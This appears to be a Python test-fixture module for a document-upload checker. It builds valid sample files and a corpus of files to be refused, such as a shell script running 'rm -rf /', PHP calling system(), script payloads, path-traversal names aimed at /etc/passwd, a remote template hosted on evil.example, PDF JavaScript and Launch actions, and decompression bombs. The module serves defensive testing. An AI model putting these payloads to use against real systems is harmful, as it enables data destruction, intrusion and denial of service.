"""Good files of every kind, and the corpus of files that must be refused."""

import io
import struct
import zipfile
import zlib

CONTENT_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
EXE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 100
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def zipped(parts, *, method=zipfile.ZIP_DEFLATED):
    """Return an archive of these parts, in their order."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)
    return file.getvalue()


def office(main="word/document.xml", **more):
    """Return a small office document with these parts beside its own; `__` in a name is a slash."""
    parts = {"[Content_Types].xml": CONTENT_TYPES, main: b"<document/>"}
    return zipped(parts | {name.replace("__", "/"): text for name, text in more.items()})


def with_part(name, content, main="word/document.xml"):
    """Return a document with one more part."""
    return zipped({"[Content_Types].xml": CONTENT_TYPES, main: b"<document/>", name: content})


def open_document(kind="text", **more):
    """Return a small OpenDocument file."""
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped({"mimetype": mimetype, "content.xml": b"<content/>", **more})


def png(width=2, height=2, after=b"", cut=0):
    """Return a picture of these sizes, with bytes behind it, or cut off."""

    def chunk(name, content):
        sums = struct.pack(">I", zlib.crc32(name + content))
        return struct.pack(">I", len(content)) + name + content + sums

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    picture = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", b"x" * 40)
    whole = picture + chunk(b"IEND", b"")
    return (whole[:-cut] if cut else whole) + after


def jpeg(width=2, height=2, after=b"", frame=b"\xff\xc0", points=b"\x12\xff\x00\xff\xd0\x34"):
    """Return a picture of these sizes: application data, a frame, a scan and the end."""
    data = b"\xff\xe0" + struct.pack(">H", 4) + b"JF"
    sizes = struct.pack(">HBHHB", 8, 8, height, width, 1)
    scan = b"\xff\xda" + struct.pack(">H", 2) + points
    return b"\xff\xd8" + data + frame + sizes + scan + b"\xff\xd9" + after


def locked():
    """Return a document whose parts say that they are locked with a password."""
    content = bytearray(office())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(sign)
        while at >= 0:
            content[at + place] |= 1
            at = content.find(sign, at + 1)
    return bytes(content)


def bomb(megabytes):
    """Return a document that unpacks to so many megabytes."""
    return with_part("word/big.xml", b"\0" * (megabytes * 1024 * 1024))


def twice():
    """Return a document with one part twice."""
    file = io.BytesIO(office())
    with zipfile.ZipFile(file, "a") as archive:
        archive.fp.seek(archive.start_dir)
        info = zipfile.ZipInfo("word/document.xml")
        archive.NameToInfo.pop("word/document.xml")
        archive.writestr(info, b"<other/>")
    return file.getvalue()


def broken():
    """Return a document of which some packed bytes were changed."""
    content = with_part("word/styles.xml", bytes(range(256)) * 40)
    at = content.rfind(b"word/styles.xml", 0, content.find(b"PK\x01\x02")) + 30
    return content[:at] + b"\xff\xff\xff\xff" + content[at + 4 :]


def listing_too_long():
    """Return an archive whose end says that its list of parts is two megabytes long."""
    content = bytearray(office())
    end = content.rfind(b"PK\x05\x06")
    content[end + 12 : end + 16] = struct.pack("<I", 2 * 1024 * 1024)
    return bytes(content)


GOOD = {
    "pdf": ("policy.pdf", PDF),
    "docx": ("report.docx", office()),
    "xlsx": ("figures.xlsx", office("xl/workbook.xml")),
    "pptx": ("talk.pptx", office("ppt/presentation.xml")),
    "chart": ("report.docx", with_part("word/embeddings/sheet.xlsx", office("xl/workbook.xml"))),
    "odt": ("report.odt", open_document()),
    "ods": ("figures.ods", open_document("spreadsheet")),
    "odp": ("talk.odp", open_document("presentation")),
    "jpg": ("garden.jpg", jpeg()),
    "jpg of a phone": ("garden.jpeg", jpeg(after=b"\0\0depth map")),
    "jpg, progressive": ("garden.jpg", jpeg(frame=b"\xff\xc2")),
    "png": ("garden.png", png()),
    "csv": ("jobs.csv", b"name,jobs\nvalley,12\n"),
    "csv of Excel": ("jobs.CSV", "name;jobs\nCafé;12\n".encode("cp1252")),
    "txt": ("notes.txt", b"Twelve people from the valley.\n"),
    "txt of Windows": ("notes.txt", "Twelve people".encode("utf-16")),
    "txt with signs": ("notes.txt", b"5 < 6, and a < b is no tag\n"),
}
ENDINGS = {
    "chart": "docx", "jpg of a phone": "jpg", "jpg, progressive": "jpg", "csv of Excel": "csv",
    "txt of Windows": "txt", "txt with signs": "txt",
}  # fmt: skip

DECLARES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
REMOTE = (
    b'<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm"'
    b' TargetMode="External"/></Relationships>'
)

# What must be refused: the name, the content, and a part of the sentence that says why.
CORPUS = {
    "nothing": ("empty.pdf", b"", "is empty (0 bytes)"),
    "old Word": ("report.doc", OLE, "an old Office format"),
    "locked Word, which is OLE": ("report.docx", OLE, "locked with a password"),
    "locked parts": ("report.docx", locked(), "locked with a password"),
    "locked PDF": ("a.pdf", PDF.replace(b"/Root", b"/Encrypt 2 0 R /Root"), "locked with a"),
    "program": ("report.pdf", EXE, "of a kind that is not taken"),
    "program called text": ("report.txt", b"\x7fELF\x02\x01\0", "of a kind that is not taken"),
    "shell script": ("report.txt", b"#!/bin/sh\nrm -rf /\n", "a page of the web or a program"),
    "page of the web": ("a.txt", b"<!DOCTYPE html><p>Hello", "a page of the web"),
    "page behind blanks": ("a.txt", b"\n\n  <html>", "a page of the web"),
    "script in a table": ("a.csv", b"a,b\n<script>alert(1)</script>,2", "a page of the web"),
    "drawing": ("a.svg", b"<svg onload='alert(1)'/>", "a page of the web"),
    "PHP": ("a.txt", b"<?php system('ls');", "a page of the web"),
    "RTF": ("a.rtf", b"{\\rtf1 hello}", "a page of the web or a program"),
    "text with a bell": ("a.txt", b"hello\x07", "of a kind that is not taken"),
    "text with half a pair": ("a.txt", b"\xff\xfe\x00\xd8", "of a kind that is not taken"),
    "bytes of no text": ("a.txt", b"\x81\x8d\x8f hello", "of a kind that is not taken"),
    "GIF": ("a.gif", b"GIF89a\x01\0\x01\0\0\0\0", "of a kind that is not taken"),
    "archive": ("a.zip", zipped({"a.txt": b"hello"}), "an archive (ZIP), not a document"),
    "archive called Word": ("a.docx", zipped({"a.txt": b"x"}), "an archive (ZIP), not a document"),
    "types without a document": (
        "a.docx", zipped({"[Content_Types].xml": CONTENT_TYPES}), "an archive (ZIP)",
    ),
    "other OpenDocument": ("a.odg", open_document("graphics"), "an archive (ZIP)"),
    "macros": ("a.docm", with_part("word/vbaProject.bin", b"x"), "carries macros"),
    "macros by their type": (
        "a.docx",
        zipped({"[Content_Types].xml": b"macroEnabled", "word/document.xml": b"<d/>"}),
        "carries macros",
    ),
    "old macros": ("a.xlsm", with_part("xl/macrosheets/sheet1.xml", b"x"), "carries macros"),
    "macros of OpenDocument": (
        "a.odt", open_document(**{"Basic/Standard/Module1.xml": b"x"}), "carries macros",
    ),
    "controls": ("a.docx", with_part("word/activeX/activeX1.xml", b"x"), "carries macros"),
    "macros in a chart": (
        "a.docx",
        with_part("word/embeddings/a.xlsx", with_part("xl/vbaProject.bin", b"x")),
        "carries macros",
    ),
    "archive inside": (
        "a.docx", with_part("word/embeddings/a.zip", zipped({"a": b"x"})), "an archive (ZIP) inside"
    ),
    "program inside": ("a.docx", with_part("word/embeddings/o.bin", EXE), "a program or an old"),
    "object inside": ("a.docx", with_part("word/embeddings/o.bin", OLE), "a program or an old"),
    "path in a part": ("a.docx", with_part("../../etc/passwd", b"x"), "whose name leads out"),
    "root in a part": ("a.docx", with_part("/etc/passwd", b"x"), "whose name leads out"),
    "drive in a part": ("a.docx", with_part("C:/windows/a", b"x"), "whose name leads out"),
    "backslashes in a part": ("a.docx", with_part("..\\a", b"x"), "whose name leads out"),
    "entities": ("a.docx", with_part("word/styles.xml", DECLARES), "is damaged"),
    "entities in UTF-16": (
        "a.docx", with_part("word/styles.xml", DECLARES.decode().encode("utf-16")), "is damaged",
    ),
    "template elsewhere": (
        "a.docx", with_part("word/_rels/settings.xml.rels", REMOTE), "fetches its template",
    ),
    "one part twice": ("a.docx", twice(), "is damaged"),
    "broken bytes": ("a.docx", broken(), "is damaged"),
    "cut archive": ("a.docx", office()[:-40], "is damaged"),
    "list of parts too long": ("a.docx", listing_too_long(), "more parts than any document"),
    "bomb": ("a.docx", bomb(2), "unpacks to far more"),
    "cut PDF": ("a.pdf", b"%PDF-1.7\n1 0 obj", "is cut off"),
    "PDF with a program": ("a.pdf", PDF.replace(b"/Root", b"/JavaScript (x) /Root"), "JavaScript"),
    "PDF that hides a program": (
        "a.pdf", PDF.replace(b"/Root", b"/J#61vaScript (x) /Root"), "JavaScript",
    ),
    "PDF that starts a program": ("a.pdf", PDF.replace(b"/Root", b"/Launch /Root"), "a command"),
    "PDF with files": ("a.pdf", PDF.replace(b"/Root", b"/EmbeddedFile /Root"), "other files"),
    "PDF with a film": ("a.pdf", PDF.replace(b"/Root", b"/RichMedia /Root"), "a film"),
    "PDF and archive": ("a.pdf", PDF + zipped({"a": b"x"}), "two kinds at once"),
    "archive and PDF": (
        "a.docx", zipped({"%PDF-1.7": b"x", "word/document.xml": b"y"}), "two kinds at once",
    ),
    "text and PDF": ("a.txt", b"hello %PDF-1.7", "two kinds at once"),
    "picture and archive": ("a.png", png(after=zipped({"a": b"x"})), "two kinds at once"),
    "picture and page": ("a.png", png(after=b"<script>"), "hidden behind the picture"),
    "photograph and page": ("a.jpg", jpeg(after=b"<HTML>"), "hidden behind the picture"),
    "photograph and cut archive": ("a.jpg", jpeg(after=b"PK\x03\x04"), "hidden behind"),
    "cut picture": ("a.png", png(cut=20), "is damaged or cut off"),
    "picture without a head": (
        "a.png", b"\x89PNG\r\n\x1a\n" + b"\0\0\0\0IEND\0\0\0\0" * 3, "is damaged or cut off",
    ),
    "picture without points": ("a.png", png(width=0), "is damaged or cut off"),
    "picture bomb": ("a.png", png(width=50_000, height=50_000), "2,500,000,000 points"),
    "photograph bomb": ("a.jpg", jpeg(width=60_000, height=60_000), "3,600,000,000 points"),
    "cut photograph": ("a.jpg", jpeg()[:-2], "is damaged or cut off"),
    "photograph cut in its head": ("a.jpg", jpeg()[:7], "is damaged or cut off"),
    "photograph without a frame": ("a.jpg", b"\xff\xd8\xff\x01\xff\xd9", "is damaged or cut off"),
    "photograph of nonsense": ("a.jpg", b"\xff\xd8\xff\xe0\0\2nonsense", "is damaged or cut off"),
}  # fmt: skip
